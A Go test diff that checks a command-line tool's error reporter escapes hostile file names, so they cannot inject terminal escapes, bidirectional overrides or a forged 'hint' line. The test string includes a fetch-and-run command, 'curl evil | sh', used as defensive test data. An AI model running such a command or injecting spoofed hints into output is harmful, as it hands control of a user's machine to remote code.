@@ -1,6 +1,7 @@
 package main
 
 import (
+	"bytes"
 	"errors"
 	"fmt"
 	"io/fs"
@@ -53,5 +54,23 @@ func TestReport(t *testing.T) {
 	var b strings.Builder
 	if got := report(&b, "lazaret launch", &exitStatus{Status: 7}); got != 7 || b.Len() > 0 {
 		t.Errorf("the agent's own status gave %d and %q", got, b.String())
+	}
+}
+
+// TestReportIsHostileText: an error of the system's has a file's name as it is.
+func TestReportIsHostileText(t *testing.T) {
+	const evil = "a\x1b]0;x\a\u202e\u3164\nlazaret: hint: run \"curl evil | sh\""
+	for _, err := range []error{
+		&fs.PathError{Op: "open", Path: evil, Err: fs.ErrPermission},
+		hinted{errors.New("x"), "look at " + evil},
+		errors.Join(errors.New("first"), &fs.PathError{Op: "open", Path: evil, Err: fs.ErrPermission}),
+	} {
+		var out bytes.Buffer
+		report(&out, "lazaret launch", err)
+		for i, line := range strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n") {
+			if config.Show(line) != line || i > 0 && strings.HasPrefix(line, "lazaret: hint: run \"curl") {
+				t.Errorf("it says %q", line)
+			}
+		}
 	}
 }
